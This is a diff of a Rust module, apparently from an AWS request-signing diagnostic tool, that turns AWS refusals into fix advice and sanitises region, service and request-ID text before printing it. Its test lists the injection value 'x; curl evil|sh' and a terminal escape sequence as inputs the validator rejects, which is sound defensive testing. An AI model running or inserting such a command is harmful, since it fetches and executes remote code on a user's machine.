@@ -1,27 +1,26 @@
 //! How to fix what AWS refuses, in the options of countersign and the commands of the AWS CLI.
 
-use crate::upstream::{Endpoint, UpstreamKind};
+use crate::diagnose::{Diagnosis, Evidence};
+use crate::upstream::{Endpoint, UpstreamKind, WAF};
 
-pub(super) const FORBIDDEN: &str = "The API's resource policy, a usage plan that requires x-api-key, AWS WAF, a \
-    missing permission (HTTP APIs), or a wrong Host header are the usual reasons.";
-pub(super) const WAF: &str = "A firewall refused the request before AWS checked its signature: AWS WAF, CloudFront, \
-    or a proxy of the network. Allow the request in the rules of the API's web ACL; their sampled requests show \
-    which rule blocked it.";
-pub(super) const WEBSOCKET: &str = "The URL is that of a WebSocket API, which a check cannot open. Connect a client \
-    to countersign to check it.";
+pub(super) const FORBIDDEN: &str = "Check, in this order: that the method's authorization is AWS_IAM, and a policy of \
+    the identity allows execute-api:Invoke on it (HTTP APIs do not say so); that the API's resource policy allows the \
+    identity and this network; whether a usage plan requires x-api-key; the sampled requests of AWS WAF; and --host.";
+pub(super) const THROTTLED: &str = "Try again later. If it persists, raise the throttling limit of the API's stage or \
+    usage plan (API Gateway), or the quota: https://console.aws.amazon.com/servicequotas";
 const CLOCK: &str = "Synchronize this machine's clock: timedatectl set-ntp true";
 const TOKEN: &str = "The access key, its secret and its session token must come from one source. Set all three \
     again, or remove the session token if the key is not temporary.";
 
-/// Returns the fix for a cause of a diagnosis; `None` if the general one applies.
-pub(super) fn of_cause(
-    cause: &str,
+/// Returns the fix for a diagnosis; `None` if the general one applies. `fields` are the root fields of the
+/// query that was sent.
+pub(super) fn of_diagnosis(
+    diagnosis: &Diagnosis,
     endpoint: &Endpoint,
-    message: &str,
     fields: &[String],
 ) -> Option<String> {
     let scope = &endpoint.scope;
-    Some(match cause {
+    Some(match diagnosis.cause?.as_str() {
         "clock-fast" | "clock-slow" => CLOCK.to_owned(),
         "host-wrong" => host(endpoint),
         "iam-not-enabled" => enable_iam(),
@@ -31,7 +30,7 @@ pub(super) fn of_cause(
             path_of(endpoint),
             endpoint.wire_host
         ),
-        "not-authorized" => grant(endpoint, fields),
+        "not-authorized" => grant(diagnosis, endpoint, fields)?,
         "path-wrong" => path(endpoint),
         "token-expired" => {
             "Renew the credentials, such as with: aws sso login".to_owned()
@@ -39,26 +38,51 @@ pub(super) fn of_cause(
         "token-extra" | "token-missing" | "token-wrong" | "unknown-key" => TOKEN.to_owned(),
         "waf" => WAF.to_owned(),
         "wrong-region" => format!(
-            "It is signed for {:?}. Use the region of the API, also behind a custom domain: --region REGION",
-            scope.region
+            "It is signed for {:?}. Use the region of the API, also behind a custom domain: --region {}",
+            scope.region,
+            expected_scope(diagnosis).unwrap_or("REGION")
         ),
         "wrong-secret" => "The secret access key is not that of the access key. Copy both again, from one source. If \
                            other programs accept them, a proxy between countersign and AWS changes the request."
             .to_owned(),
-        "wrong-service" => {
-            let expected = expected_service(message).unwrap_or("NAME");
-            format!("It is signed for {:?}. Use the API's service: --service {expected}", scope.service)
-        }
+        "wrong-service" => format!(
+            "It is signed for {:?}. Use the API's service: --service {}",
+            scope.service,
+            expected_scope(diagnosis).unwrap_or("NAME")
+        ),
         _ => return None,
     })
 }
 
-/// Returns the service that AWS expects. The text is not trusted, and users paste the fix into a shell.
-fn expected_service(message: &str) -> Option<&str> {
+/// Returns the region or service that AWS expects in the credential scope.
+fn expected_scope(diagnosis: &Diagnosis) -> Option<&str> {
+    let difference = diagnosis.difference.as_ref()?;
+    let is_scope = difference.line.starts_with("credential scope");
+    is_scope.then(|| label(&difference.aws)).flatten()
+}
+
+/// Returns a text if it has the form of a region or a service. AWS's text is not trusted, and users paste the
+/// fix into a shell.
+fn label(text: &str) -> Option<&str> {
     let is_part = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
-    let quoted = message.split('\'').nth(1)?;
-    let is_name = (1..=40).contains(&quoted.len()) && quoted.bytes().all(is_part);
-    is_name.then_some(quoted)
+    let is_label = (1..=40).contains(&text.len()) && text.bytes().all(is_part);
+    is_label.then_some(text)
+}
+
+/// Returns what to do if the API failed, with the ID under which AWS logged the request.
+pub(super) fn of_failure(evidence: &Evidence) -> String {
+    let mut headers = evidence.answer.headers.iter();
+    let id = headers.find(|(name, _)| name == "x-amzn-requestid");
+    let is_id = |id: &&str| {
+        id.bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
+    };
+    let id = id.map(|(_, id)| id.as_str()).filter(is_id);
+    let id = id.map_or_else(String::new, |id| format!(" for the request {id}"));
+    format!(
+        "Try again. If it persists, search the API's own log in CloudWatch{id}, and see \
+         https://health.aws.amazon.com"
+    )
 }
 
 /// Returns the fix for a path where nothing is.
@@ -113,31 +137,34 @@ fn enable_iam() -> String {
         .to_owned()
 }
 
-fn grant(endpoint: &Endpoint, fields: &[String]) -> String {
-    let (service, region) = (&endpoint.scope.service, &endpoint.scope.region);
-    match endpoint.kind {
+/// Returns what allows the request: what AWS named, or else what the request needs.
+fn grant(diagnosis: &Diagnosis, endpoint: &Endpoint, fields: &[String]) -> Option<String> {
+    let (service, region) = (endpoint.scope.service.as_str(), &endpoint.scope.region);
+    let required = match endpoint.kind {
         UpstreamKind::Graphql => {
-            let field = match fields {
-                [] => "FIELD".to_owned(),
-                fields => fields.join(", …/fields/"),
-            };
-            format!(
-                "Allow appsync:GraphQL on arn:aws:appsync:{region}:ACCOUNT:apis/ID/types/Query/fields/{field} in a \
-                 policy of the identity. The statement for your documents: countersign policy FILE\n\
-                 With several authorization modes, the API must have AWS_IAM, and the field @aws_iam in the schema."
-            )
+            let fields = fields
+                .iter()
+                .map(|field| format!("types/Query/fields/{field}"));
+            let fields: Vec<String> = fields.collect();
+            Some(format!("appsync:GraphQL on {}", fields.join(", "))).filter(|_| !fields.is_empty())
         }
-        UpstreamKind::Events => format!(
-            "Allow appsync:EventConnect on arn:aws:appsync:{region}:ACCOUNT:apis/ID in a policy of the identity."
-        ),
-        UpstreamKind::Http if service == "execute-api" => format!(
-            "Allow execute-api:Invoke on arn:aws:execute-api:{region}:ACCOUNT:ID/STAGE/METHOD/PATH in a policy of \
-             the identity, and in the resource policy if the API is in another account."
-        ),
-        UpstreamKind::Http => {
-            format!("Allow the action of {service} on this resource in a policy of the identity.")
-        }
+        UpstreamKind::Events => Some("appsync:EventConnect".to_owned()),
+        UpstreamKind::Http if service == "execute-api" => Some("execute-api:Invoke".to_owned()),
+        UpstreamKind::Http => None,
+    };
+    let named = diagnosis.denial.clone().unwrap_or_default();
+    let denial = named.clone().or_required(required.as_deref());
+    if denial.denied().is_none() || (named.explicit_deny && named.action.is_none()) {
+        // The diagnosis has a fix of its own.
+        return None;
     }
+    let region = Some(region.as_str());
+    let advice = denial.advice();
+    Some(match (denial.command(region), denial.statement(region)) {
+        (Some(command), _) => format!("{advice}\nTo print the policy: {command}"),
+        (None, Some(statement)) => format!("{advice}\nThe statement: {statement}"),
+        (None, None) => advice,
+    })
 }
 
 #[cfg(test)]
@@ -145,13 +172,12 @@ mod tests {
     use super::*;
 
     #[test]
-    fn only_the_name_of_a_service_is_taken_from_a_text() {
-        let text =
-            |name: &str| format!("Credential should be scoped to correct service: '{name}'.");
-        assert_eq!(expected_service(&text("execute-api")), Some("execute-api"));
-        for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
-            assert_eq!(expected_service(&text(other)), None, "{other:?}");
+    fn only_a_region_or_service_is_taken_from_a_text() {
+        for text in ["execute-api", "eu-central-1"] {
+            assert_eq!(label(text), Some(text));
         }
-        assert_eq!(expected_service("none"), None);
+        for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
+            assert_eq!(label(other), None, "{other:?}");
+        }
     }
 }
